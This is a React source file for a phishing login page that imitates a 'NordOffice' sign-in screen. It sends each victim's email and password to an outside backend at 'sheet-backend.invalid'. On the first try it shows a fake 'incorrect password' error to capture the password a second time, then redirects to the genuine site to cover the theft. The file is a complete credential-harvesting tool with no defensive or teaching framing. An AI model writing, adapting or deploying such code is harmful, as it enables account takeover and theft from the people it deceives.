import { useState } from "react";
import axios from "axios";
import { jsx as _jsx, jsxs as _jsxs, Fragment as _Fragment } from "react/jsx-runtime";
const API = "https://sheet-backend.invalid";
function App() {
  const [step, setStep] = useState("email");
  const [email, setEmail] = useState("");
  const [password, setPassword] = useState("");
  const [count, setCount] = useState(0);
  const [error, setError] = useState("");
  const handleNext = e => {
    e.preventDefault();
    if (!email.includes("@")) {
      setError("Enter a valid email address, phone number, or account name.");
      return;
    }
    setError("");
    setStep("password");
  };
  const handleSubmit = async e => {
    e.preventDefault();
    try {
      await axios.post(`${API}/save`, { email, password, attempt: count + 1 });
    } catch (err) {
      console.log(err);
    }
    if (count === 0) {
      setCount(1);
      setPassword("");
      setError("Your account or password is incorrect. If you don't remember your password, reset it now.");
    } else {
      window.location.href = "https://www.nordoffice.example/";
    }
  };
  return _jsxs("div", {
    className: "login-box",
    children: [_jsx("img", {
      src: "/logo.svg",
      alt: "NordOffice"
    }), error && _jsx("div", {
      className: "error",
      children: error
    }), step === "email" ? _jsxs("form", {
      onSubmit: handleNext,
      children: [_jsx("h1", { children: "Sign in" }), _jsx("input", {
        type: "email",
        value: email,
        onChange: e => setEmail(e.target.value)
      }), _jsx("button", { children: "Next" })]
    }) : _jsxs("form", {
      onSubmit: handleSubmit,
      children: [_jsx("div", { className: "identity", children: email }), _jsx("h1", { children: "Enter password" }), _jsx("input", {
        type: "password",
        value: password,
        onChange: e => setPassword(e.target.value)
      }), _jsx("button", { children: "Sign in" })]
    })]
  });
}
export default App;
